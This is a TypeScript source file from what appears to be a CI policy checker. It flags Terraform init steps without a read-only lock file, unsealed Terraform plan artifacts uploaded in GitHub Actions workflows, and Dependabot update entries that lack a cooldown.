const TERRAFORM_INIT = /\bterraform\b(?:\s+-chdir=(?:"[^"]*"|\S+))?\s+init\b/;

/** `init-lockfile-readonly`: every `terraform init` installs the providers of the lock file. */
function checkInitLockfile(
  step: YAMLMap,
  path: string,
  source: string,
  lineCounter: LineCounter,
  add: AddFinding,
): void {
  const run = step.get('run', true);
  if (run === undefined) return;
  const [from = 0, to = source.length] = (run as Node).range ?? [];
  const text = source.slice(from, to);
  // A command continued with a trailing backslash is one command.
  const commands = scalarText(run).replace(/\\\n/g, ' ').split('\n');
  for (const command of commands) {
    const init = TERRAFORM_INIT.exec(command);
    if (!init || /(?:^|\s)-lockfile=readonly\b/.test(command)) continue;
    const at = text.indexOf(init[0]);
    add(
      'init-lockfile-readonly',
      run as Node,
      `${path}.run`,
      `"${command.trim()}" may select provider versions other than the committed .terraform.lock.hcl (and write them to it): plans and applies of one commit could then run different providers. Add -lockfile=readonly; to change a provider, update the lock file in a pull request (terraform providers lock).`,
      at >= 0 ? lineCounter.linePos(from + at).line : undefined,
    );
  }
}

/**
 * A path as the workflow writes it, comparable between a script and an upload's `path`:
 * `${{ env.X }}`, `${X}` and a `${{ … }}` that a job env variable `X` holds become `$X`;
 * quotes and a leading `./` go.
 */
function normalizePath(text: string, envByExpression: Map<string, string>): string {
  return text
    .trim()
    .replace(/\$\{\{\s*([^}]*?)\s*\}\}/g, (whole, expression: string) => {
      const env = /^env\.(\w+)$/.exec(expression);
      if (env) return `$${env[1]}`;
      const name = envByExpression.get(expression);
      return name ? `$${name}` : whole;
    })
    .replace(/\$\{(\w+)\}/g, '$$$1')
    .replace(/["']/g, '')
    .replace(/^\.\//, '');
}

/** Whether an upload path (maybe a glob, maybe a folder) takes in the file at `target`. */
function uploadIncludes(entry: string, target: string): boolean {
  if (entry === '.' || entry === '') return true;
  const glob = (segment: string) =>
    new RegExp(
      `^${segment
        .replace(/[.+^()|[\]\\$]/g, '\\$&')
        .replace(/\*\*?/g, '.*')
        .replace(/\?/g, '.')}$`,
    );
  const entrySegments = entry.replace(/\/+$/, '').split('/');
  const targetSegments = target.split('/');
  if (entrySegments.length > targetSegments.length) return false;
  return entrySegments.every((segment, i) => glob(segment).test(targetSegments[i] as string));
}

/** Files a job's scripts write that hold plan values: saved plans and `terraform show -json` output. */
function planFilesWritten(
  job: YAMLMap,
  envByExpression: Map<string, string>,
): { target: string; what: string }[] {
  const written: { target: string; what: string }[] = [];
  const steps = job.get('steps', true);
  if (!isSeq(steps)) return written;
  for (const step of steps.items) {
    if (!isMap(step)) continue;
    const cwd = normalizePath(scalarText(step.get('working-directory', true)), envByExpression);
    const within = (dir: string, file: string) =>
      file.startsWith('/') || file.startsWith('$') || dir === '' ? file : `${dir}/${file}`;
    const commands = scalarText(step.get('run', true)).replace(/\\\n/g, ' ').split('\n');
    for (const command of commands) {
      if (!/\bterraform\b/.test(command)) continue;
      const chdir = /-chdir=("[^"]*"|\S+)/.exec(command)?.[1];
      const planOut = /\bplan\b.*?\s-out[= ]("[^"]*"|[^\s;&|]+)/.exec(command)?.[1];
      if (planOut) {
        const dir = chdir ? normalizePath(chdir, envByExpression) : cwd;
        const file = normalizePath(planOut, envByExpression);
        written.push({
          target: dir && !file.startsWith('$') ? `${dir}/${file}` : within(dir, file),
          what: 'the saved plan (terraform plan -out)',
        });
      }
      // Redirected or tee'd straight from terraform show -json: piping it through a filter first
      // (jq keeping addresses and actions) is how a job writes a value-free copy.
      const shown =
        /\bshow\s+-json\b[^|>\n]*>>?\s*("[^"]*"|[^\s;&|]+)/.exec(command)?.[1] ??
        /\bshow\s+-json\b[^|\n]*\|\s*tee\s+(?:-a\s+)?("[^"]*"|[^\s;&|]+)/.exec(command)?.[1];
      if (shown)
        written.push({
          target: within(cwd, normalizePath(shown, envByExpression)),
          what: 'terraform show -json output',
        });
    }
  }
  return written;
}

/** `plan-artifact-in-clear`: no upload of a saved plan or of its `terraform show -json` output. */
function checkPlanArtifacts(job: YAMLMap, jobPath: string, add: AddFinding): void {
  const envByExpression = new Map<string, string>();
  const env = job.get('env', true);
  if (isMap(env))
    for (const pair of env.items) {
      const value = /^\$\{\{\s*([^}]*?)\s*\}\}$/.exec(scalarText(pair.value).trim());
      if (value?.[1]) envByExpression.set(value[1], scalarText(pair.key));
    }
  const written = planFilesWritten(job, envByExpression);
  const steps = job.get('steps', true);
  if (!isSeq(steps)) return;
  steps.items.forEach((step, index) => {
    if (!isMap(step) || !scalarText(step.get('uses', true)).startsWith('actions/upload-artifact@'))
      return;
    const withMap = step.get('with', true);
    const pathNode = isMap(withMap) ? withMap.get('path', true) : undefined;
    for (const line of scalarText(pathNode).split('\n')) {
      const entry = normalizePath(line, envByExpression);
      if (entry === '' || entry.startsWith('!') || entry.startsWith('#')) continue;
      const why = /\.tfplan$/.test(entry)
        ? 'a saved plan (*.tfplan)'
        : written.find(({ target }) => uploadIncludes(entry, target))?.what;
      if (!why) continue;
      add(
        'plan-artifact-in-clear',
        pathNode as Node,
        `${jobPath}.steps[${index}].with.path`,
        `The artifact takes in ${why} ("${line.trim()}"): it holds the prior state's values unredacted (secrets, environment variables), and anyone with read access to the repository can download it. Seal it first (npx tsx tools/delivery/src/plan-seal.ts seal) and upload the .sealed file, or upload only the redacted summary (plan-summary --changes-out).`,
      );
    }
  });
}

/**
 * Checks `.github/dependabot.yml` against the house rule `dependabot-cooldown`: every update
 * entry sets `cooldown.default-days` (at least 1), so a release is proposed only after it has
 * been public for a few days, the window in which hijacked releases are usually found and
 * pulled (https://docs.github.com/en/code-security/dependabot/working-with-dependabot/dependabot-options-reference#cooldown-).
 * Security updates are not delayed by it.
 *
 * @param source - the dependabot.yml text
 * @param file - the name to report findings under
 * @returns every finding, in file order; empty when each entry has a cooldown
 * @example
 * checkDependabotPolicy(readFileSync('.github/dependabot.yml', 'utf8'), '.github/dependabot.yml');
 */
export function checkDependabotPolicy(source: string, file: string): PolicyFinding[] {
  const lineCounter = new LineCounter();
  const doc = parseDocument(source, { lineCounter });
  const lineOf = (node: Node | null | undefined): number =>
    node?.range ? lineCounter.linePos(node.range[0]).line : 1;
  if (doc.errors.length > 0 || !isMap(doc.contents))
    return [
      {
        rule: 'parse',
        file,
        line: doc.errors[0]?.linePos?.[0].line ?? 1,
        path: '',
        message: 'Not a valid dependabot.yml mapping (version, updates). Fix the syntax first.',
      },
    ];
  const findings: PolicyFinding[] = [];
  const updates = doc.get('updates', true);
  if (!isSeq(updates)) return findings;
  updates.items.forEach((entry, index) => {
    if (!isMap(entry)) return;
    const cooldown = entry.get('cooldown', true);
    const days = isMap(cooldown) ? Number(scalarText(cooldown.get('default-days', true))) : NaN;
    if (Number.isInteger(days) && days >= 1) return;
    const ecosystem = scalarText(entry.get('package-ecosystem', true));
    findings.push({
      rule: 'dependabot-cooldown',
      file,
      line: lineOf((isMap(cooldown) ? cooldown : entry.get('package-ecosystem', true)) as Node),
      path: `updates[${index}].cooldown.default-days`,
      message: `The ${ecosystem} updates have no cooldown: Dependabot proposes a release the hour it is published, before a hijacked one is usually found and pulled. Add cooldown: { default-days: 3 } (and semver-major-days: 7 where the ecosystem supports it).`,
    });
  });
  return findings;
}
